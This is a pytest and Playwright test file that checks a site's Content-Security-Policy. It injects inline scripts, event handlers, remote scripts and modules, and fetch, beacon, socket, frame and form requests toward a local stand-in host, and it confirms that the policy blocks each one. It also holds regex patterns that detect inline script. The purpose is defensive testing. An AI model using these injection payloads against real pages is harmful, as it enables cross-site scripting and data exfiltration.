"""The Content-Security-Policy: the page does not violate it, and it stops the attacks that it is meant to stop."""

import http.server
import re

import pytest

import serve
from serving import publish
from tests.conftest import ROOT
from tests.e2e.hosts import Host
from tests.e2e.reader import Sheet, scribble
from tests.support.servers import answering

# Violations of the policy in the page; Chromium's console also shows those in its workers.
LISTEN = """
    window.broken = [];
    addEventListener("securitypolicyviolation", (event) => {
        broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
    });
"""


class OtherHost(http.server.ThreadingHTTPServer):
    """Another host, which answers everyone; `asked` collects the requests."""

    daemon_threads = True

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"window.hacked = true;")

        do_POST = do_GET

        def log_message(self, *args):
            """Log nothing."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), self.Handler)
        self.asked, self.url = [], f"http://127.0.0.1:{self.server_address[1]}/"


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """Yield the built site on a host that sends no policy: only the page's own applies."""
    folder = tmp_path_factory.mktemp("policy") / "site"
    serve.build(ROOT, folder)
    with answering(Host(folder)) as host:
        yield host


@pytest.fixture
def other_host():
    with answering(OtherHost()) as other_host:
        yield other_host


def open_page(new_page, url, **options):
    page = new_page(viewport={"width": 1280, "height": 800}, **options)
    page.add_init_script(LISTEN)
    page.complaints = []
    page.on("console", lambda m: page.complaints.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.goto(url)
    return page


def use(page):
    """Click, drag and scroll to everything on the page once."""
    sheet = Sheet(page)
    sheet.ready()
    sheet.write(scribble())
    for name in ("steps", "temperature", "samples"):
        sheet.set(name, page.locator(f"#{name}").get_attribute("min"))
    page.emulate_media(color_scheme="dark", reduced_motion="reduce")
    page.set_viewport_size({"width": 700, "height": 900})
    sheet.open_all()
    for figure in page.locator("figure").all():
        sheet.reveal(figure.get_attribute("id"))
        figure.scroll_into_view_if_needed()
        page.wait_for_timeout(300)
        for canvas in figure.locator("canvas:visible").all():
            canvas.hover(position={"x": 5, "y": 5}, force=True)
        for slider in figure.locator("input[type=range]:visible:enabled").all():
            slider.press("ArrowRight")
        for choice in figure.locator("select:visible:enabled").all():
            choice.select_option(index=choice.locator("option").count() - 1)
        for button in figure.locator("button:visible:enabled").element_handles():  # a click may hide the next one
            button.evaluate("(button) => button.click()")
            page.wait_for_timeout(50)
        page.evaluate("document.querySelector('#continuation.full #full-screen')?.click()")
    page.wait_for_timeout(2000)


def test_everything_works_under_the_policy(new_page, built):
    page = open_page(new_page, built.url)
    requests = []
    page.context.on("request", lambda request: requests.append(request.url))
    use(page)
    page.reload()
    Sheet(page).ready()
    assert page.evaluate("broken") == []
    assert page.complaints == []
    assert [url for url in requests if not url.startswith((built.url, "blob:", "data:"))] == []


def test_it_works_under_the_header_of_serve_py_too(new_page, site):
    page = open_page(new_page, site.url)
    Sheet(page).ready()
    header = page.request.get(site.url).headers["content-security-policy"]
    own = publish.policy(page.request.get(site.url).body())
    assert header == f"{own}; frame-ancestors 'self'" and "http" not in header
    assert page.evaluate("broken") == [] and page.complaints == []


EMBED = """(url) => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("shown");
    image.onerror = () => resolve("refused");
    image.src = url;
})"""
FRAME = """(url) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = resolve;
    frame.src = url;
    document.body.append(frame);
})"""


def test_no_other_site_shows_what_serve_py_serves(new_page, site, other_host):
    own = new_page()
    own.goto(site.url + "LICENSE")
    assert own.evaluate(EMBED, site.url + "icons/ductus.svg") == "shown"
    page = new_page()
    page.goto(other_host.url)
    assert page.evaluate(EMBED, site.url + "icons/ductus.svg") == "refused"
    page.evaluate(FRAME, site.url)
    assert page.frames[1].url.startswith("chrome-error:")
    page.evaluate(FRAME, other_host.url + "frame")  # what no server refuses
    assert page.frames[2].url == other_host.url + "frame"


INJECTIONS = {
    "an inline script": (
        "script-src-elem inline",
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = true";
            document.body.append(script);
        }""",
    ),
    "a handler in the text": (
        "script-src-attr inline",
        """() => {
            const button = document.createElement("button");
            button.setAttribute("onclick", "window.hacked = true");
            document.body.append(button);
            button.click();
        }""",
    ),
    "a script of another host": (
        "script-src-elem URL",
        """(url) => {
            const script = document.createElement("script");
            script.src = url;
            document.body.append(script);
        }""",
    ),
    "a module of another host": ("script-src-elem URL", "(url) => import(url).catch(() => {})"),
    "a script made of text": (
        "script-src-elem blob",
        "() => import(URL.createObjectURL(new Blob(['hacked = true'], {type: 'text/javascript'}))).catch(() => {})",
    ),
    "a request to another host": ("connect-src URL", "(url) => fetch(url).catch(() => {})"),
    "a beacon": ("connect-src URL", "(url) => navigator.sendBeacon(url, 'ink')"),
    "a socket": ("connect-src URL", "(url) => { try { new WebSocket(url.replace('http', 'ws')) } catch {} }"),
    "a worker's request": (
        "",
        """(url) => new Promise((resolve) => {
            const source = `fetch("${url}").then(() => postMessage("came"), () => postMessage("refused"))`;
            const worker = new Worker(URL.createObjectURL(new Blob([source])));
            worker.onmessage = ({data}) => resolve(window.answer = data);
        })""",
    ),
    "a picture of another host": ("img-src URL", "(url) => { new Image().src = url }"),
    "a style of another host": (
        "style-src-elem URL",
        """(url) => {
            const link = document.createElement("link");
            link.rel = "stylesheet";
            link.href = url;
            document.head.append(link);
        }""",
    ),
    "a style in the text": (
        "style-src-attr inline",
        "() => document.body.setAttribute('style', 'position: fixed')",
    ),
    "a frame": (
        "frame-src URL",
        """(url) => {
            const frame = document.createElement("iframe");
            frame.src = url;
            document.body.append(frame);
        }""",
    ),
    "another base": (
        "base-uri URL",
        """(url) => {
            const base = document.createElement("base");
            base.href = url;
            document.head.append(base);
        }""",
    ),
    "a form": (
        "form-action URL",
        """(url) => {
            const form = document.createElement("form");
            form.action = url;
            form.method = "post";
            document.body.append(form);
            form.submit();
        }""",
    ),
}


@pytest.fixture(scope="module")
def victim(browser, built):
    """Yield the built page, without waiting for Python: the policy applies from the first byte."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(LISTEN)
    page.route("**/*.wasm", lambda route: route.abort())
    yield page
    context.close()


@pytest.mark.parametrize("what", INJECTIONS)
def test_what_does_not_belong_to_the_page_is_blocked(victim, built, other_host, what):
    expected, attack = INJECTIONS[what]
    victim.goto(built.url, wait_until="commit")
    victim.wait_for_selector("#update", state="attached")
    victim.evaluate("broken.length = 0")
    victim.evaluate(attack, other_host.url)
    victim.wait_for_timeout(300)
    broken = [re.sub(r"(http|ws)://\S+", "URL", line.rsplit(" ", 1)[0]) for line in victim.evaluate("broken")]
    assert expected in broken if expected else victim.evaluate("answer") == "refused"
    assert victim.evaluate("window.hacked") is None
    assert victim.url == built.url and victim.evaluate("document.body.style.position") == ""
    assert other_host.asked == []


@pytest.fixture
def unprotected(new_page, tmp_path):
    """Yield a page without a policy, on the same host."""
    (tmp_path / "index.html").write_text("<!doctype html><body>")
    with answering(Host(tmp_path)) as host:
        page = new_page()
        page.add_init_script(LISTEN)
        page.goto(host.url)
        yield page


def test_the_attacks_work_where_there_is_no_policy(unprotected, other_host):
    """Check that the tests above do not pass for another reason."""
    for what in ("an inline script", "a handler in the text", "a script made of text"):
        unprotected.evaluate("window.hacked = undefined")
        unprotected.evaluate(INJECTIONS[what][1], other_host.url)
        unprotected.wait_for_timeout(100)
        assert unprotected.evaluate("window.hacked"), what
    unprotected.evaluate(INJECTIONS["a request to another host"][1], other_host.url + "fetch")
    unprotected.evaluate(INJECTIONS["a worker's request"][1], other_host.url + "worker")
    unprotected.evaluate(INJECTIONS["a picture of another host"][1], other_host.url + "picture")
    unprotected.wait_for_timeout(300)
    assert {"/fetch", "/worker", "/picture"} <= set(other_host.asked)
    assert unprotected.evaluate("broken") == []


def test_pyscript_cannot_do_without_eval(new_page, built):
    """If this fails, 'unsafe-eval' is no longer needed: remove it from index.html."""
    html = (built.folder / "index.html").read_text()
    policy = publish.policy(html.encode())
    assert policy.count(" 'unsafe-eval'") == 1
    page = new_page()
    page.add_init_script(LISTEN)
    without = policy.replace(" 'unsafe-eval'", "")
    body = publish.POLICY.sub(lambda found: found[1] + without + found[3], html)
    page.route(built.url, lambda route: route.fulfill(body=body, content_type="text/html"))
    page.goto(built.url)
    sheet = Sheet(page)
    sheet.until(lambda: sheet.loading()[0] == "failed", "PyScript to fail")
    assert any(line.startswith("script-src eval") and "pyscript" in line for line in page.evaluate("broken"))


def test_the_page_holds_no_inline_script_or_style():
    html = (ROOT / "index.html").read_text()
    assert re.findall(r"<script(?![^>]*\bsrc=)", html) == []
    assert re.findall(r"<style|\sstyle=|\son[a-z]+=|javascript:", html) == []
